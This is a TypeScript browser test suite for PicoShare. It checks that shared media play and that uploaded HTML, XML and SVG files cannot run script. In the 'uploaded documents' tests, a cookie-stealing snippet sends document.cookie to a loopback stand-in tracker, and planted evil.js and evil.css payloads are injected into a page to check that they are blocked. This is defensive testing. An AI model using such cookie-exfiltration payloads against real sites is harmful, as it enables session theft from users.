import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { recordVideo, type Video } from './media.js';
import { eventually, login, PASSPHRASE, startSession, type Session } from './support.js';

// Issue 12, in Chromium: uploads cannot run as this site or reach other sites,
// a page's CSP does not admit an uploaded script or stylesheet, and shared
// videos still play and seek. Issue 14: MP4 and audio too, PDFs show in the
// browser's viewer, and an HTML or XML page is an opaque origin even to script.

let session: Session;
let page: Page;
// Stands in for a third-party site on loopback; counts what reaches it.
let tracker: Server;
const trackerPaths: string[] = [];
let trackerUrl: string;

before(async () => {
  session = await startSession();
  page = await session.newPage();
  tracker = createServer((request, response) => {
    trackerPaths.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => tracker.listen(0, '127.0.0.1', resolve));
  trackerUrl = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`;
});
after(async () => {
  await session.close();
  await new Promise((resolve) => tracker.close(resolve));
});

/** Uploads bytes as the owner with `curl -T`'s request; returns the file's ID. */
async function upload(filename: string, body: Buffer | string, contentType?: string): Promise<string> {
  const res = await fetch(`${session.baseURL}/${encodeURIComponent(filename)}`, {
    method: 'PUT',
    headers: {
      authorization: `Basic ${Buffer.from(`:${PASSPHRASE}`).toString('base64')}`,
      accept: 'application/json',
      ...(contentType ? { 'content-type': contentType } : {}),
    },
    // As bytes: a string body would be sent as text/plain.
    body: Buffer.from(body),
  });
  assert.equal(res.status, 201, await res.clone().text());
  return ((await res.json()) as { id: string }).id;
}

/** Two seconds of a 440 Hz tone as 8 kHz 16-bit mono WAV, written here. */
function toneWav(seconds = 2, rate = 8000): Buffer {
  const samples = seconds * rate;
  const wav = Buffer.alloc(44 + samples * 2);
  wav.write('RIFF', 0);
  wav.writeUInt32LE(36 + samples * 2, 4);
  wav.write('WAVEfmt ', 8);
  wav.writeUInt32LE(16, 16);
  wav.writeUInt16LE(1, 20); // PCM
  wav.writeUInt16LE(1, 22); // mono
  wav.writeUInt32LE(rate, 24);
  wav.writeUInt32LE(rate * 2, 28);
  wav.writeUInt16LE(2, 32);
  wav.writeUInt16LE(16, 34);
  wav.write('data', 36);
  wav.writeUInt32LE(samples * 2, 40);
  for (let i = 0; i < samples; i++) wav.writeInt16LE(Math.round(8000 * Math.sin((2 * Math.PI * 440 * i) / rate)), 44 + i * 2);
  return wav;
}

/** A one-page PDF saying `text`, with a correct cross-reference table. */
function onePagePdf(text: string): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${`BT /F1 18 Tf 20 40 Td (${text}) Tj ET`.length} >>\nstream\nBT /F1 18 Tf 20 40 Td (${text}) Tj ET\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let pdf = '%PDF-1.4\n';
  const offsets = objects.map((body, i) => {
    const at = pdf.length;
    pdf += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const xref = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}

/**
 * Opens a media file's link as a recipient would, in Chromium's own player:
 * it loads, seeks to `seekTo` seconds and plays (readyState 2 or more).
 */
async function playsAndSeeks(url: string, seekTo: number): Promise<void> {
  const viewer = await page.context().newPage();
  try {
    const response = await viewer.goto(url);
    assert.doesNotMatch(String(response?.headers()['content-security-policy']), /sandbox/);
    const element = viewer.locator('video');
    await element.waitFor();
    await eventually(async () => assert.ok((await element.evaluate((v: Video) => v.readyState)) >= 1, 'metadata loaded'));
    // Recorded media may have no duration in its header: seeking far ahead
    // makes Chromium find the end, after which the duration is known.
    const duration = await element.evaluate(async (v: Video) => {
      if (!Number.isFinite(v.duration)) {
        v.currentTime = 1e6;
        await new Promise((resolve) => v.addEventListener('durationchange', resolve, { once: true }));
      }
      return v.duration;
    });
    assert.ok(Number.isFinite(duration) && duration > seekTo, `duration ${duration}`);
    const seeked = await element.evaluate(async (v: Video, to: number) => {
      v.currentTime = to;
      await new Promise((resolve) => v.addEventListener('seeked', resolve, { once: true }));
      return v.currentTime;
    }, seekTo);
    assert.ok(Math.abs(seeked - seekTo) < 0.2, `seeked to ${seeked}`);
    const played = await element.evaluate(async (v: Video) => {
      v.muted = true;
      v.currentTime = 0;
      await v.play();
      await new Promise((resolve) => v.addEventListener('timeupdate', resolve, { once: true }));
      return { error: v.error?.code ?? null, readyState: v.readyState };
    });
    assert.deepEqual(played.error, null);
    assert.ok(played.readyState >= 2, `readyState ${played.readyState}`);
  } finally {
    await viewer.close();
  }
}

describe('shared media', () => {
  test('a WebM video plays and seeks when its link is opened', async () => {
    await page.goto('/');
    const video = await recordVideo(page, 'video/webm;codecs=vp8');
    assert.ok(video.length > 1000, `recorded ${video.length} bytes`);
    const id = await upload('clip.webm', video);
    const head = await fetch(`${session.baseURL}/-${id}/clip.webm`, { method: 'HEAD' });
    assert.equal(head.headers.get('content-type'), 'video/webm');
    await playsAndSeeks(`${session.baseURL}/-${id}/clip.webm`, 0.5);
  });

  test('an MP4 video plays and seeks when its link is opened', async () => {
    await page.goto('/');
    const video = await recordVideo(page, 'video/mp4;codecs=avc1');
    const id = await upload('clip.mp4', video);
    assert.equal((await fetch(`${session.baseURL}/-${id}`, { method: 'HEAD' })).headers.get('content-type'), 'video/mp4');
    await playsAndSeeks(`${session.baseURL}/-${id}`, 0.5);
  });

  test('an audio file plays and seeks when its link is opened', async () => {
    const id = await upload('tone.wav', toneWav());
    assert.match(String((await fetch(`${session.baseURL}/-${id}`, { method: 'HEAD' })).headers.get('content-type')), /^audio\/(wav|x-wav|wave)$/);
    await playsAndSeeks(`${session.baseURL}/-${id}/tone.wav`, 1.5);
  });

  test('a PDF displays in the browser\'s viewer', async () => {
    const id = await upload('letter.pdf', onePagePdf('Hello PicoShare'));
    const viewer = await page.context().newPage();
    try {
      const response = await viewer.goto(`${session.baseURL}/-${id}`);
      assert.equal(response?.headers()['content-type'], 'application/pdf');
      assert.match(String(response?.headers()['content-disposition']), /^inline/);
      // Chromium shows a PDF in its viewer, a frame of its own inside the page.
      await eventually(() => assert.ok(viewer.frames().some((f) => f.url().startsWith('chrome-extension://')), 'the PDF viewer opened'));
      const frame = viewer.frames().find((f) => f.url().startsWith('chrome-extension://'))!;
      // Its toolbar names the document once the plugin has it.
      await eventually(async () =>
        assert.ok(
          await frame.evaluate<boolean>(`(() => {
            const viewer = document.querySelector('pdf-viewer')?.shadowRoot;
            const toolbar = viewer?.querySelector('viewer-toolbar')?.shadowRoot;
            return Boolean(viewer?.querySelector('embed#plugin') && toolbar?.textContent.includes(${JSON.stringify(id)}));
          })()`),
          'the viewer shows the document',
        ),
      );
    } finally {
      await viewer.close();
    }
  });

  test('a picture displays', async () => {
    // A 1×1 PNG.
    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
    const id = await upload('dot.png', png);
    const viewer = await page.context().newPage();
    await viewer.goto(`${session.baseURL}/-${id}`);
    await eventually(async () => assert.equal(await viewer.locator('img').evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth), 1));
    await viewer.close();
  });
});

describe('uploaded documents', () => {
  test('an uploaded HTML page runs no script and loads nothing from other sites', async () => {
    const id = await upload(
      'tracker.html',
      `<!doctype html><html><body>
<p id="status">script did not run</p>
<img src="${trackerUrl}/pixel.png">
<link rel="stylesheet" href="${trackerUrl}/style.css">
<script>document.getElementById('status').textContent = 'script ran';</script>
<script src="${trackerUrl}/script.js"></script>
</body></html>`,
      'text/html',
    );
    const viewer = await page.context().newPage();
    await viewer.goto(`${session.baseURL}/-${id}`);
    await viewer.waitForLoadState('load');
    assert.equal(await viewer.locator('#status').textContent(), 'script did not run');
    // Opening the other site afterwards lets any request still on its way arrive first.
    await viewer.goto(`${trackerUrl}/done`);
    await viewer.close();
    assert.deepEqual(
      trackerPaths.filter((path) => /pixel|style|script/.test(path)),
      [],
      `the other site saw only the navigation: ${trackerPaths.join(', ')}`,
    );
    assert.ok(trackerPaths.includes('/done'));
  });

  test("an uploaded HTML or XML page cannot read the owner's cookie or reach another site, even with script", async () => {
    await login(page);
    const exfiltrate = `fetch('${trackerUrl}/fetch?' + document.cookie); new Image().src = '${trackerUrl}/image?' + document.cookie; navigator.sendBeacon('${trackerUrl}/beacon', document.cookie);`;
    const documents = [
      { name: 'steal.html', type: 'text/html', body: `<!doctype html><p id="status">script did not run</p><script>${exfiltrate} document.getElementById('status').textContent = 'script ran';</script>` },
      {
        name: 'steal.xhtml',
        type: 'application/xhtml+xml',
        body: `<html xmlns="http://www.w3.org/1999/xhtml"><body><p id="status">script did not run</p><script>${exfiltrate} document.getElementById('status').textContent = 'script ran';</script></body></html>`,
      },
      { name: 'steal.xml', type: 'text/xml', body: `<?xml version="1.0"?><doc><p xmlns="http://www.w3.org/1999/xhtml" id="status">script did not run</p><script xmlns="http://www.w3.org/1999/xhtml">${exfiltrate}</script></doc>` },
    ];
    for (const doc of documents) {
      const id = await upload(doc.name, doc.body, doc.type);
      const viewer = await page.context().newPage();
      await viewer.goto(`${session.baseURL}/-${id}`);
      await viewer.waitForLoadState('load');
      assert.equal(await viewer.locator('#status').textContent(), 'script did not run', doc.name);
      // Script injected by the test itself (as if the page's own had run) finds
      // an opaque origin: no cookie, and no request leaves.
      const reach = await viewer.evaluate<{ cookie: string; site: string; other: string }>(`(async () => {
        const attempt = (url) => fetch(url, { credentials: 'include' }).then(() => 'reached', () => 'refused');
        let cookie;
        try { cookie = 'read: ' + document.cookie; } catch (err) { cookie = 'blocked: ' + err.name; }
        return { cookie, site: await attempt('${session.baseURL}/api/entries'), other: await attempt('${trackerUrl}/direct') };
      })()`);
      assert.deepEqual(reach, { cookie: 'blocked: SecurityError', site: 'refused', other: 'refused' }, doc.name);
      await viewer.close();
    }
    const viewer = await page.context().newPage();
    await viewer.goto(`${trackerUrl}/done-stealing`);
    await viewer.close();
    assert.deepEqual(trackerPaths.filter((path) => /fetch|image|beacon|direct/.test(path)), [], trackerPaths.join(', '));
  });

  test('an uploaded SVG runs no script', async () => {
    const id = await upload(
      'drawing.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><text id="status" y="20">script did not run</text>
<script>document.getElementById('status').textContent = 'script ran';</script></svg>`,
    );
    const viewer = await page.context().newPage();
    await viewer.goto(`${session.baseURL}/-${id}`);
    await viewer.waitForLoadState('load');
    assert.equal(await viewer.locator('#status').textContent(), 'script did not run');
    await viewer.close();
  });
});

describe("the pages' own policy", () => {
  test('an uploaded script or stylesheet injected into a page is refused', async () => {
    await login(page);
    const scriptId = await upload('evil.js', "document.title = 'pwned'; window.pwned = true;", 'text/javascript');
    const moduleId = await upload('evil.mjs', "document.title = 'pwned module';", 'text/javascript');
    const styleId = await upload('evil.css', 'body { background-color: rgb(1, 2, 3) !important; }', 'text/css');
    // An HTML injection into a page, as a future bug might allow: the markup
    // reaches the browser inside the page, under the page's real CSP header.
    const injected = await page.context().newPage();
    await injected.route('**/files', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(
        '</main>',
        `<script src="/-${scriptId}"></script><script type="module" src="/-${moduleId}"></script><link rel="stylesheet" href="/-${styleId}"></main>`,
      );
      await route.fulfill({ response, body });
    });
    const violations: string[] = [];
    injected.on('console', (message) => {
      if (/Content Security Policy/.test(message.text())) violations.push(message.text());
    });
    await injected.goto('/files');
    await injected.waitForLoadState('load');
    assert.equal(await injected.title(), 'PicoShare - Files');
    assert.equal(await injected.evaluate<boolean>('window.pwned ?? false'), false);
    assert.notEqual(await injected.evaluate<string>('getComputedStyle(document.body).backgroundColor'), 'rgb(1, 2, 3)');
    await eventually(() => assert.ok(violations.length >= 3, violations.join('\n')));
    // The page's own scripts still work: the menu opens.
    await injected.getByRole('menuitem', { name: 'System' }).click();
    await injected.getByRole('menuitem', { name: 'Settings' }).waitFor();
    await injected.close();
  });
});
